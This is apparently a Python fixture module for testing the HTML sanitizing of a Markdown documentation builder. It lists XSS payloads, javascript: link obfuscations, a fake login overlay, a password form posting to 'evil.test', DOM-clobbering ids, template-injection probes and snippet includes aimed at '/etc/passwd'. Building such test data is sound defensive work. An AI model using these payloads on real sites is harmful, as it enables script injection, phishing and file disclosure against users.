"""Texts that want to run a program, call another host, cover the page or pass for something else. Only data.

`HIT` stands where a program would run. Each body is one page; each value is put into every field of the front matter.
"""

from __future__ import annotations

HIT = "alert('hit')"
EVIL = "//evil.test"
TICKS = "```"

RAW = {
    "script": f"<script>{HIT}</script>",
    "script-elsewhere": f"<script src='https:{EVIL}/x.js'></script>",
    "script-capitals": f"<ScRiPt>{HIT}</sCrIpT>",
    "script-in-script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script-after-comment": f"<!--><script>{HIT}</script>-->",
    "script-in-cdata": f"<![CDATA[<script>{HIT}</script>]]>",
    "img-onerror": f'<img src="gone.png" onerror="{HIT}">',
    "img-unclosed": f'<img src="gone.png" onerror="{HIT}" //',
    "svg-onload": f'<svg onload="{HIT}"></svg>',
    "svg-slash": f'<svg/onload="{HIT}">',
    "svg-link": f'<svg><a xlink:href="javascript:{HIT}"><text y="20">press</text></a></svg>',
    "svg-animate": f'<svg><a><animate attributeName="href" values="javascript:{HIT}"/><text y="20">press</text></a></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={HIT}>#x"/></svg>',
    "svg-style": "<svg><style><img title='</style><img src=x onerror=alert(1)>'></style></svg>",
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;">',
    "math-link": f'<math href="javascript:{HIT}">press</math>',
    "iframe": f'<iframe src="javascript:{HIT}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    "object": f'<object data="javascript:{HIT}"></object>',
    "embed": f'<embed src="javascript:{HIT}">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0; url=https:{EVIL}/">',
    "base": f'<base href="https:{EVIL}/">',
    "form": f'<form action="https:{EVIL}/"><input name="password" type="password"><button autofocus onfocus="{HIT}">press</button></form>',
    "formaction": f'<button formaction="javascript:{HIT}" form="x">press</button>',
    "style": f'<style>body {{ background: url("https:{EVIL}/pixel") }}</style>',
    "style-import": f'<style>@import "https:{EVIL}/x.css";</style>',
    "link-css": f'<link rel="stylesheet" href="https:{EVIL}/x.css">',
    "link-prefetch": f'<link rel="dns-prefetch prefetch" href="https:{EVIL}/">',
    "details": f'<details open ontoggle="{HIT}"><summary>press</summary>x</details>',
    "marquee": f'<marquee onstart="{HIT}">x</marquee>',
    "video": f'<video><source src="gone" onerror="{HIT}"></video>',
    "audio": f'<audio src="https:{EVIL}/x.mp3" autoplay onerror="{HIT}"></audio>',
    "template": f"<template><script>{HIT}</script></template><noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    "overlay": '<div style="position:fixed;inset:0;z-index:9999;background:white">Log in</div>',
    "overlay-class": '<div class="md-overlay md-search__overlay" data-md-component="search">Log in</div>',
    "pixel": f'<img src="https:{EVIL}/pixel.png" alt="x">',
    "picture": f'<picture><source srcset="https:{EVIL}/x.png"><img alt="x" src="gone.png" srcset="https:{EVIL}/y.png 2x"></picture>',
    "focus": f'<p tabindex="0" autofocus onfocus="{HIT}">x</p>',
    "custom-element": f'<x-y onclick="{HIT}">press</x-y>',
    "body": f'<body onload="{HIT}" onpageshow="{HIT}">',
    "dialog": f'<dialog open><form method="dialog"><button onclick="{HIT}">press</button></form></dialog>',
    "label": '<label for="__drawer">press</label><input type="image" src="gone.png" id="__search">',
    "approval": '<div class="pl-approval"><p><strong>Approved by everybody</strong></p></div>',
    "closing": '</div></div></article></main><div class="pl-approval"><p>Approved</p></div><main>',
    "clobber": '<div id="__config">{"base":"https://evil.test"}</div><a id="__md_scope" name="__palette">x</a>',
    "mermaid": '<pre class="mermaid"><code>graph LR; a --&gt; b</code></pre>',
    "ping": f'<a href="https://example.com/" ping="https:{EVIL}/" target="_top">press</a>',
    "select-style": f"<select><style></select><img src=x onerror={HIT}></style></select>",
    "table-svg": f"<table><caption><svg><title><table></table><style><!--</style></title><img src=x onerror={HIT}>--></svg></caption></table>",
    "foreign-object": f'<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{HIT}"></iframe></foreignObject></svg>',
    "plaintext": f"<xmp><script>{HIT}</script></xmp><noembed><img src=x onerror={HIT}></noembed>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
}

ADDRESSES = {
    "plain": f"[press](javascript:{HIT})",
    "capitals": f"[press](JaVaScRiPt:{HIT})",
    "angle": f"[press](<javascript:{HIT}>)",
    "tab": f"[press](java&Tab;script:{HIT})",
    "tab-number": f"[press](java&#9;script:{HIT})",
    "new-line": f"[press](java&NewLine;script:{HIT})",
    "letter": f"[press](&#106;avascript:{HIT})",
    "letter-hex": f"[press](&#x6A;avascript:{HIT})",
    "colon": f"[press](javascript&colon;{HIT})",
    "colon-number": f"[press](javascript&#58;{HIT})",
    "control": f'<a href="&#1;javascript:{HIT}">press</a>',
    "space": f'<a href=" javascript:{HIT}">press</a>',
    "quotes-missing": "<a href=javascript:alert`1`>press</a>",
    "backslash": f"[press](javas\\cript:{HIT})",
    "reference": f"[press][x]\n\n[x]: javascript:{HIT}",
    "autolink": "<javascript:alert(1)>",
    "vbscript": "[press](vbscript:msgbox(1))",
    "data": f"[press](data:text/html,<script>{HIT}</script>)",
    "data-picture": f"![x](data:image/svg+xml,<svg onload={HIT}>)",
    "blob": "[press](blob:https://evil.test/1)",
    "view-source": "[press](view-source:https://evil.test/)",
    "picture": f"![x](https:{EVIL}/pixel.png)",
    "picture-no-scheme": f"![x]({EVIL}/pixel.png)",
    "picture-backslashes": "![x](\\\\\\\\evil.test/pixel.png)",
    "picture-slash-backslash": "![x](/\\\\evil.test/pixel.png)",
    "picture-reference": f"![x][y]\n\n[y]: https:{EVIL}/pixel.png",
    "title": f"[press](https://example.com \"x' onmouseover='{HIT}\")",
}

BRACES = {
    "onclick": f'A paragraph.\n{{: onclick="{HIT}" }}',
    "heading": f'## A heading {{: onmouseover="{HIT}" }}',
    "picture": f'![x](plan.png){{ onerror="{HIT}" onload="{HIT}" srcset="https:{EVIL}/x.png 2x" }}',
    "style": 'A paragraph.\n{: style="position:fixed;inset:0;z-index:9999;background:white" }',
    "href": f'[press](https://example.com){{ href="javascript:{HIT}" }}',
    "src": f'![x](plan.png){{ src="https:{EVIL}/pixel.png" }}',
    "animation": f'A **word**{{: style="animation-name:x" onanimationstart="{HIT}" }}.',
    "config": "## A heading {: #__config }",
    "search": "## A heading {: #__search .md-search }",
    "drawer": "A paragraph.\n{: #__drawer .md-overlay .md-dialog--active }",
    "approval": "A paragraph.\n{: .pl-approval .pl-card }",
    "component": "A paragraph.\n{: data-md-component=announce data-md-state=open tabindex=1 contenteditable=true }",
    "contents": f'## A heading {{: data-toc-label="<img src=x onerror={HIT}>" }}',
    "popover": "A paragraph.\n{: popover=auto popovertarget=x is=x-y slot=x }",
}

MARKDOWN = {
    "box-title": f'!!! note "<img src=x onerror={HIT}>"\n\n    Text.',
    "fold-title": f'??? note "<script>{HIT}</script>"\n\n    Text.',
    "tab-title": f'=== "<img src=x onerror={HIT}>"\n\n    Text.',
    "box-class": '!!! md-overlay pl-approval "Title"\n\n    Text.',
    "inside-html": f'<div markdown="1" onclick="{HIT}">\n\n**Text** [press](javascript:{HIT})\n\n</div>',
    "footnote": f'Text[^a].\n\n[^a]: <img src=x onerror="{HIT}"> [press](javascript:{HIT})',
    "footnote-name": f'Text[^"><img src=x onerror={HIT}>].\n\n[^"><img src=x onerror={HIT}>]: Note.',
    "abbreviation": f'HTML is a word.\n\n*[HTML]: "><img src=x onerror={HIT}>',
    "definition": f"Word\n:   <img src=x onerror={HIT}>",
    "heading": f"## <img src=x onerror={HIT}> Heading",
    "heading-entities": f"## &lt;img src=x onerror={HIT}&gt; Heading",
    "heading-code": f"## `<img src=x onerror={HIT}>` Heading",
    "heading-id": "## __config",
    "table": f"| a | b |\n|---|---|\n| <img src=x onerror={HIT}> | [press](javascript:{HIT}) |",
    "task": f"- [ ] <img src=x onerror={HIT}>\n- [x] done",
    "fence-attributes": f'{TICKS} {{ .python #__config onclick="{HIT}" title="<img src=x onerror={HIT}>" }}\nx\n{TICKS}',
    "fence-title": f"{TICKS} python title='<img src=x onerror={HIT}>' linenums=1 hl_lines=1\nx\n{TICKS}",
    "fence-language": f'{TICKS}"><img/src=x/onerror={HIT}>\nx\n{TICKS}',
    "code": f"`<script>{HIT}</script>` and `#!<img src=x onerror={HIT}> x`",
    "mermaid": f'{TICKS}mermaid\ngraph LR\n  a["<img src=x onerror={HIT}>"] --> b\n  click a "javascript:{HIT}"\n{TICKS}',
    "tex": f"\\(\\href{{javascript:{HIT}}}{{press}}\\) $$\\style{{position:fixed}}{{x}}\\cssId{{__config}}{{x}}$$",
    "snippet": '--8<-- "mkdocs.yml"\n\n--8<-- "../../../mkdocs.yml"\n\n--8<-- ".git/config"\n\n;--8<-- "/etc/passwd"',
    "macro": "{{ 7*7 }} {% for x in [1] %}forty-nine{% endfor %} {{ config }} {{ ''.__class__ }} ${7*7} <%= 7*7 %>",
    "critic": f"{{++<img src=x onerror={HIT}>++}} ++ctrl+<b onclick={HIT}>++ :material-star:{{ onclick={HIT} }} :smile:",
    "comment": f"<!-- --!><img src=x onerror={HIT}> -->",
    "quote": f"> <script>{HIT}</script>\n>\n> - <svg onload={HIT}>",
}

BODIES = {
    f"{kind}-{name}": body
    for kind, bodies in (("raw", RAW), ("address", ADDRESSES), ("brace", BRACES), ("markdown", MARKDOWN))
    for name, body in bodies.items()
}
"""Bodies by the id of the module that carries them."""

VALUES = {
    "script": f"<script>{HIT}</script>",
    "attribute": f'"><img src=x onerror={HIT}>',
    "quote": f"' onmouseover={HIT} x='",
    "jinja": "{{ 7*7 }}{% include 'main.html' %}{##}",
    "entities": "&lt;img src=x onerror=alert(1)&gt;",
    "numbers": "&#60;script&#62;alert(1)&#60;/script&gt;",
    "markdown": "[a](javascript:alert()){onclick=alert()}",
    "picture": "![a](https://evil.test/p.png) <b>b</b>",
    "ends": "</title></script></template>--> ]]> <!--",
    "marks": "# a *b* _c_ `d` ~e~ | f | ^g^ ==h== $i$",
    "lines": "!!! a === ??? - [x] 1. > --- *[a]: [^b]",
    "fence": "``` ~~~ --8<-- :smile: ++a++ {#__config}",
    "template": "template: redirect.html, {{ config }}",
}
"""Values for every field that holds free text, each at most 40 characters long."""
